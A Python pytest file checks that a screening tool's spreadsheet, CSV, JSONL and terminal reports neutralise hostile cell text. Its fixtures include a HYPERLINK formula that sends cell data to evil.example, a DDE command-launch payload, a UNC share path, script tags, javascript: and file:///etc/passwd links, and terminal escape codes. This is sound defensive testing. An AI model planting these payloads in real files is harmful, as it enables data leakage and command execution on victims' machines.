"""Text out of strangers' files stays text in every report: no formula, no link, no markup, no terminal command."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
import samples
from lxml import etree

from screening.contract import row_object
from screening.report import writer
from screening.report.answer import answer_text
from screening.report.safe import no_formula, one_line, safe_link, visible
from screening.report.xlsx_cells import MAX_TEXT, Names, cell_text

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "line end": "\r\n=1+1",
    "full-width": "＝1+1",
    "blank before": "  =1+1",
    "address": "https://evil.example/?a=1#b",
    "internal": "internal:'Alerts'!A1",
    "external": "external:\\\\evil.example\\share\\x.xlsx",
    "controls": "AC\x00ME\x07\x1b[2J\x1b]0;owned\x07\x7f\x9b31m",
    "script": "<script>alert(1)</script>",
    "markup": "[red]ACME[/bold] :smile:",
    "rich string": '<r></is></c><c r="A9"><f>1+1</f></c><c><is></r>',
    "escape": "_x0041_ _x000D_",
    "entity": "&lt;ACME&amp; ]]> <!-- ",
    "right to left": "\u202egnp.exe\u202c \u200fشركة",
    "not characters": "\ud800 \ufffe \uffff \ufdd0",
    "separators": "a\u2028b\u2029c\x85d",
    "long": "Ä" * 40_000,
    "long beyond the plane": "\U0001f600" * 40_000,
    "sheet name": "'[a]:*?/\\b'",
    "apostrophe": "'=1+1",
    "digits": "000123",
    "huge": "1e999",
}


@pytest.fixture(params=list(HOSTILE), ids=list(HOSTILE))
def cell(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


@pytest.fixture
def workbook(cell: str, tmp_path: Path) -> Path:
    path = tmp_path / "report.xlsx"
    samples.hostile(cell).tell(writer("xlsx", path))
    return path


def test_the_workbook_has_no_formula_and_no_link_but_our_own(workbook: Path) -> None:
    with zipfile.ZipFile(workbook) as parts:
        names = parts.namelist()
        for name in names:
            tree = etree.fromstring(parts.read(name))
            tags = {etree.QName(node).localname for node in tree.iter() if isinstance(node.tag, str)}

            assert not tags & {"f", "ddeLink", "oleLink", "externalReference", "script"}, name
            targets = {node.get("Target") for node in tree.iter() if node.get("TargetMode") == "External"}
            places = {node.get("location") for node in tree.iter() if node.get("location")}
            assert all(str(target).startswith(("https://www.ecfr.gov/", "https://www.acquisition.gov/")) for target in targets)
            assert places <= {"'Alerts'!A1", "Alerts!A1"}
        assert not [name for name in names if "externalLink" in name or "vba" in name.lower()]


def test_the_workbook_holds_the_text_as_text(workbook: Path, cell: str) -> None:
    book = openpyxl.load_workbook(workbook)
    sheet = book.worksheets[3]
    original = sheet.cell(2, 9)

    shown = re.sub(r"_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), str(original.value))
    assert original.data_type == "s"
    assert shown == cell_text(cell)
    book.close()


def test_a_cut_is_marked_and_fits_the_cell() -> None:
    for name in ("long", "long beyond the plane"):
        text = cell_text(HOSTILE[name])

        assert len(text.encode("utf-16-le")) // 2 <= MAX_TEXT
        assert text.endswith("... [cut here: 40,000 characters in the input]")
    assert cell_text("Ä" * MAX_TEXT) == "Ä" * MAX_TEXT


def test_csv_values_cannot_start_a_formula(cell: str, tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    story = samples.hostile(cell)
    story.tell(writer("csv", path))
    csv.field_size_limit(1_000_000)
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))

    assert len(rows) == len(story.rows) + len(story.failures)
    for row in rows:
        assert not [value for value in row.values() if re.match(r"[=+\-@＝＋－＠\t\r\n]", value)]
        assert "\x1b" not in "".join(row.values())
    assert rows[0]["sheet"].removeprefix("'") == visible(cell).removeprefix("'")


def test_csv_for_machines_keeps_the_value_itself(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    samples.hostile("=1+1\r\x1b").tell(writer("csv", path, raw=True))
    data = path.read_bytes()
    with path.open(encoding="utf-8", newline="") as file:
        row = next(csv.DictReader(file))

    assert not data.startswith(b"\xef\xbb\xbf")
    assert row["queried"] == "=1+1\r\x1b"


def test_jsonl_is_the_contracts_object_on_one_line(cell: str, tmp_path: Path) -> None:
    path = tmp_path / "report.jsonl"
    story = samples.hostile(cell)
    story.tell(writer("jsonl", path))
    lines = path.read_bytes().decode("utf-8").splitlines()

    assert [json.loads(line) for line in lines] == [row_object(story.run.id, row) for row in story.rows]
    assert list(json.loads(lines[0])) == list(row_object(story.run.id, story.rows[0]))


def test_the_terminal_gets_words_and_no_commands(cell: str, tmp_path: Path) -> None:
    path = tmp_path / "report.txt"
    story = samples.hostile(cell)
    story.tell(writer("table", path))
    table = path.read_text(encoding="utf-8")
    told = answer_text(story.rows[0].result, story.run, asked=cell, verbose=True, width=90, colour=False)

    for text in (table, told):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
        if len(cell) < 40:
            assert one_line(cell).replace(" ", "") in re.sub(r"\s", "", text)


def test_colour_is_only_for_who_sees_it(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    samples.FULL.tell(writer("table", None))
    piped = capsys.readouterr().out
    coloured = answer_text(samples.VENDOR_ROWS[0].result, samples.RUN, asked="x", width=90, colour=True)

    assert "\x1b" not in piped
    assert "\x1b[1;31m" in coloured
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    assert "\x1b" not in answer_text(samples.VENDOR_ROWS[0].result, samples.RUN, asked="x", width=90)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "file:///etc/passwd", "https://", "http://a b", "internal:x!A1", None])
def test_only_web_addresses_become_links(url: str | None, tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    rows = (samples.vendor(5, ("1", "X", "", ""), samples.Outcome.STOP, alerts=(samples.alert(source_url=url),)),)
    run = replace(samples.RUN, rules=(replace(samples.ASCEND_RULE, url=url or ""),))
    samples.Story(run, ((samples.VENDORS, rows),)).tell(writer("xlsx", path))

    assert safe_link(url) is None
    with zipfile.ZipFile(path) as parts:
        assert not [
            name for name in parts.namelist() if name.startswith("xl/worksheets/_rels") and b"External" in parts.read(name)
        ]


def test_sheet_names_are_valid_and_no_two_alike() -> None:
    names = Names()
    wanted = ["Parts", "parts", "History", "[a]:*?/\\", "'", "=cmd", "x" * 40, "X" * 40, "\x00", "😀" * 40, "", "Parts (2)"]
    taken = [names.take(name) for name in wanted]

    assert taken[:4] == ["Parts", "parts (2)", "History (2)", "_a______"]
    assert len({name.casefold() for name in taken}) == len(taken)
    for name in taken:
        assert 0 < len(name.encode("utf-16-le")) // 2 <= 31
        assert not re.search(r"[\[\]:*?/\\']", name)
        assert name[0] not in "=+-@"


def test_an_apostrophe_goes_before_what_excel_would_run() -> None:
    assert [no_formula(text) for text in ("=1", "ACME", " =1", "\ufeff@x", "A=1", "")] == [
        "'=1",
        "ACME",
        "' =1",
        "'\ufeff@x",
        "A=1",
        "",
    ]
